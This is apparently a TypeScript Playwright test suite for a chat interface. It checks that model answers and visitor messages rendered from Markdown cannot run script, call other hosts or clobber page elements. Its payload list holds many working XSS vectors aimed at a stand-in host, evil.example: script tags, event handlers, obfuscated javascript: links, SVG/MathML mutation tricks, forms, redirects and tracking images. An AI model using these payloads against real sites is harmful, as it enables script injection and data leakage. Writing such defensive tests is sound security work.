// An answer is hostile input: whatever a model writes, no script runs, nothing is asked of another host, and the
// page goes on working, while the answer streams and when it comes back from the history.
import { beforeAll, describe, expect, test } from "bun:test";
import type { Page } from "playwright-core";
import { openChat } from "./chat.ts";
import { answer } from "./model.ts";
import { type Site, startSite } from "./site.ts";
import { until } from "./support.ts";

const evil = "https://evil.example";
const run = "window.ran=1";

const payloads: [what: string, markdown: string][] = [
  [
    "a script",
    `<script>${run}</script><script src="${evil}/x.js"></script><script type="module">${run}</script>`,
  ],
  ["a script inside a paragraph", `Text <script>${run}</script> and <ScRiPt/x>${run}</sCrIpT >`],
  [
    "an image with a handler",
    `<img src=x onerror=${run}> <img src="${evil}/p.png"> <image href="${evil}/p" onload=${run}>`,
  ],
  [
    "a remote image in Markdown",
    `![pixel](${evil}/pixel.png "t") ![](//evil.example/x) ![d](data:image/png;base64,AAAA)`,
  ],
  [
    "a remote image by reference",
    `![pixel][p] and [link][p]\n\n[p]: ${evil}/pixel.png 'title" onmouseover="${run}'`,
  ],
  [
    "script addresses",
    `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](java\tscript:${run}) [d](&#106;avascript:${run}) [e](javascript&colon;${run})`,
  ],
  [
    "more script addresses",
    `[f](vbscript:x) [g](data:text/html,<script>${run}</script>) <javascript:${run}> [h](\u0001javascript:${run}) [i](%6aavascript:x)`,
  ],
  [
    "links in HTML",
    `<a href="javascript:${run}">a</a> <a href=" java&Tab;script:${run}">b</a> <a xlink:href="javascript:${run}">c</a> <a href="/admin" ping="${evil}">d</a>`,
  ],
  [
    "other addresses",
    `[f](file:///etc/passwd) [r](/local) [q](?q) [p](//evil.example/x) [b](blob:${evil}/1) [s](sms:1) [x](https:evil)`,
  ],
  [
    "styles",
    `<style>@import "${evil}/x.css"; body{display:none}</style><p style="background:url(${evil}/y)">styled</p><link rel=stylesheet href=${evil}/z.css>`,
  ],
  [
    "frames",
    `<iframe src="${evil}"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe><object data="${evil}"></object><embed src="${evil}">`,
  ],
  [
    "SVG and MathML",
    `<svg onload=${run}><script>${run}</script><use href="${evil}/s#x"/><animate onbegin=${run} attributeName=x></svg><math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  ],
  [
    "a form",
    `<form action="${evil}" id="composer"><input name=attributes autofocus onfocus=${run}><button formaction="javascript:${run}">go</button></form>`,
  ],
  ["elements that are never closed", `<div id="log"><textarea><title><xmp><noscript><plaintext><!-- `],
  [
    "a page's own names",
    `<a id="box" name="getElementById">x</a><p id="send" class="busy hidden" tabindex=1 data-x=1 aria-label=x hidden>y</p>`,
  ],
  [
    "media",
    `<video src="${evil}/v" poster="${evil}/p" autoplay onloadstart=${run}></video><audio src="${evil}/a"></audio><details open ontoggle=${run}>d</details>`,
  ],
  ["a base and a redirect", `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}">`],
  [
    "what parsers turn into something else",
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript> <b title="<img src=x onerror=${run}>">b</b> <s><img src=x onerror=${run}></s>`,
  ],
  [
    "code that closes its block",
    `\`\`\`html"><img src=x onerror=${run}>\n</code></pre><script>${run}</script>\n\`\`\`\n\n\`<img src=x onerror=${run}>\``,
  ],
  [
    "tables and attributes",
    `| a<img src=x onerror=${run}> | [b](javascript:${run}) |\n|:-:|---|\n| \`<script>${run}</script>\` | <td onclick=${run}>x |`,
  ],
];

let site: Site;
beforeAll(async () => {
  site = await startSite();
});

/** Opens a chat that is watched; what has been asked of other hosts is stopped, and told. */
async function watched() {
  const chat = await openChat(site.url);
  const elsewhere: string[] = [];
  await chat.page.context().route(
    (url) => url.origin !== site.url,
    (route) => {
      elsewhere.push(route.request().url());
      return route.abort();
    },
  );
  chat.page.on("dialog", (dialog) => elsewhere.push(`dialog ${dialog.message()}`));
  return { ...chat, elsewhere };
}

/** What is in the answers that may not be, and what they have done. */
function harm(page: Page): Promise<string[]> {
  const elements =
    "a b blockquote br code del div em h3 h4 h5 h6 hr i ins kbd li mark ol p pre s span strong sub sup svg table tbody td th thead tr u ul use button";
  const attributes = "align aria-hidden aria-label class dir href rel start tabindex target title type".split(
    " ",
  );
  return page.evaluate(
    ({ elements, attributes }) => {
      const found = "ran" in window ? ["a script ran"] : [];
      for (const node of document.querySelectorAll(".markdown *")) {
        // Code blocks, tables and icons are the page's own.
        const own = node.closest(".code-bar") !== null;
        if (!node.matches(elements.replaceAll(" ", ","))) found.push(node.outerHTML);
        for (const { name, value } of node.attributes) {
          const ours =
            name !== "class" || own || ["code", "table", "icon", "copy", "code-bar"].includes(value);
          if (!attributes.includes(name) || !ours) found.push(`${name}="${value}" on ${node.localName}`);
        }
      }
      for (const link of document.querySelectorAll<HTMLAnchorElement>(".markdown a[href]")) {
        const good = /^(https?:\/\/|mailto:)/.test(link.getAttribute("href") ?? "");
        if (!good || link.target !== "_blank" || !link.relList.contains("noopener"))
          found.push(link.outerHTML);
      }
      if (document.querySelectorAll("#log, #box, #send, #composer").length !== 4)
        found.push("a name is taken");
      return found;
    },
    { elements, attributes },
  );
}

describe("an answer", () => {
  test("with any of the payloads does no harm, streamed or reloaded", async () => {
    const chat = await watched();
    for (const [what, markdown] of payloads) {
      site.model.next(answer(markdown));
      await chat.ask(what);
      await chat.idle();
      expect([what, await harm(chat.page)]).toEqual([what, []]);
    }
    const shown = await chat.turns.allInnerTexts();
    await chat.page.reload();
    await until(async () => (await chat.turns.count()) === payloads.length, "the history is there");
    expect(await chat.turns.allInnerTexts()).toEqual(shown);
    expect(await harm(chat.page)).toEqual([]);

    site.model.next(answer("Still **here**"));
    await chat.ask("Are you well?");
    await chat.shows("Still here");
    expect(chat.elsewhere).toEqual([]);
  });

  test("whose payloads come in pieces does no harm at any moment", async () => {
    const chat = await watched();
    const text = payloads.map(([what, markdown]) => `${what}\n\n${markdown}\n\n`).join("");
    await chat.page.evaluate(() => {
      const seen = new Set<string>();
      Object.assign(window, { seen });
      new MutationObserver((records) => {
        for (const { addedNodes } of records)
          for (const node of addedNodes)
            if (node instanceof Element)
              for (const inner of [node, ...node.querySelectorAll("*")]) seen.add(inner.localName);
      }).observe(document, { subtree: true, childList: true });
    });
    const pieces = text.match(/[\s\S]{1,7}/g) ?? [];
    site.model.next(answer(...pieces).flatMap((step, i) => (i % 20 === 0 ? [step, { pauseMs: 1 }] : [step])));
    await chat.ask("All of them");
    await chat.idle();
    expect(await harm(chat.page)).toEqual([]);
    const seen = await chat.page.evaluate(() => [...(window as unknown as { seen: Set<string> }).seen]);
    const dangerous = [
      "script",
      "img",
      "image",
      "iframe",
      "style",
      "link",
      "form",
      "input",
      "object",
      "embed",
      "video",
    ];
    expect(seen.filter((name) => dangerous.includes(name))).toEqual([]);
    expect(chat.elsewhere).toEqual([]);
  });

  test("has links that open elsewhere and give nothing away, and only to the web and to mail", async () => {
    const chat = await watched();
    site.model.next(
      answer(
        "[site](https://example.com/a?b=c) <mail@example.com> http://plain.example ![picture](https://example.com/p.png) [x](tel:1)",
      ),
    );
    await chat.ask("Links");
    await chat.idle();
    const links = await chat.turns
      .getByRole("link")
      .evaluateAll((nodes) =>
        nodes.map((node) => [
          node.textContent,
          ...["href", "target", "rel"].map((name) => node.getAttribute(name)),
        ]),
      );
    const rest = ["_blank", "noopener noreferrer nofollow"];
    expect(links).toEqual([
      ["site", "https://example.com/a?b=c", ...rest],
      ["mail@example.com", "mailto:mail@example.com", ...rest],
      ["http://plain.example", "http://plain.example", ...rest],
      ["picture", "https://example.com/p.png", ...rest],
    ]);
    expect(chat.elsewhere).toEqual([]);
  });

  test("keeps what was written as words where it is no markup of ours", async () => {
    const chat = await watched();
    site.model.next(answer("Use `<b>` or <script>, <marquee>x</marquee> and a < b && c > d; H<sub>2</sub>O"));
    await chat.ask("Words");
    await chat.shows("Use <b> or <script>, <marquee>x</marquee> and a < b && c > d; H2O");
  });
});

describe("a visitor's message", () => {
  test("is words, whatever is in it", async () => {
    const chat = await watched();
    const message = `<img src=x onerror=${run}> **not bold** [x](javascript:${run})`;
    await chat.ask(message);
    await chat.idle();
    expect(await chat.turns.locator(".question p").textContent()).toBe(message);
    expect(await chat.turns.locator(".question p *").count()).toBe(0);
    await chat.page.reload();
    await chat.turns.waitFor();
    expect(await chat.turns.locator(".question p").textContent()).toBe(message);
    expect(await harm(chat.page)).toEqual([]);
    expect(chat.elsewhere).toEqual([]);
  });
});
